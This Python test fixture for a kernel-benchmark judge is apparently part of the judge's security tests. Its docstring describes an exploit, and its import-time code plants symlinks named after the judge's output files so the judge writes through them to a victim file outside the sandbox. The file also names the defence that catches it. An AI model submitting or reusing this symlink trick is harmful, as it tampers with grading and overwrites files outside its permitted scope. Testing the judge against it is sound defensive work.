"""EXPLOIT: a solution declaring KERNELS makes the files the judge writes its kernel cases
to (`kernel_cases.json`, `kernel_cases.safetensors`) symlinks to a file outside every
sandbox, at import time, before the judge writes them: the judge wrote through the links.
It plants them in the work directory and in the run's input directory. The target's path
is in `victim.txt` beside this file (the test writes it).
Caught by: the judge writes only into a directory it opened itself before the child
started (bound read-only into the namespaces), with O_CREAT|O_EXCL|O_NOFOLLOW: a planted
name is refused, never followed."""

import os

from baseline.ops import gelu

ROOT = os.path.dirname(os.getcwd())
VICTIM = open(os.path.join(os.path.dirname(__file__), "victim.txt")).read().strip()
for folder in (os.getcwd(), os.path.join(ROOT, "in")):
    for name in ("kernel_cases.json", "kernel_cases.safetensors"):
        try:
            os.symlink(VICTIM, os.path.join(folder, name))
            print(f"PLANTED {folder}/{name}", flush=True)
        except OSError as e:
            print(f"PLANT FAILED {folder}/{name} {type(e).__name__}", flush=True)

KERNELS = {"gelu": gelu}
